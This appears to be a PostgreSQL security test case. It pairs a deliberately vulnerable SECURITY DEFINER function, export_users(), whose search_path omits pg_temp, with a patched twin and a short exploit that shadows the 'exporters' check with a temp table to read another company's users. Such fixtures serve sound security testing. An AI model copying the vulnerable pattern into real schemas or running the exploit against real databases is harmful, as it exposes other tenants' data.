-- The definer's search_path leaves out pg_temp, which is then searched first.
-- object: public.export_users()
-- base: shop
--- setup
RESET ROLE;
CREATE TABLE exporters (role_name text PRIMARY KEY);
--- leak
RESET ROLE;
CREATE FUNCTION export_users() RETURNS SETOF users LANGUAGE plpgsql SECURITY DEFINER SET search_path = public AS $$
BEGIN IF EXISTS (SELECT FROM exporters WHERE role_name = session_user) THEN RETURN QUERY SELECT * FROM users; END IF; END $$;
--- twin
RESET ROLE;
CREATE FUNCTION export_users() RETURNS SETOF users LANGUAGE plpgsql SECURITY DEFINER SET search_path = public, pg_temp AS $$
BEGIN IF EXISTS (SELECT FROM exporters WHERE role_name = session_user) THEN
    RETURN QUERY SELECT * FROM users WHERE company_id = nullif(current_setting('rails.company_id', true), '')::bigint; END IF; END $$;
--- exploit
CREATE TEMP TABLE exporters AS SELECT session_user::text AS role_name; GRANT SELECT ON exporters TO PUBLIC;
SELECT FROM export_users() WHERE company_id = 202;
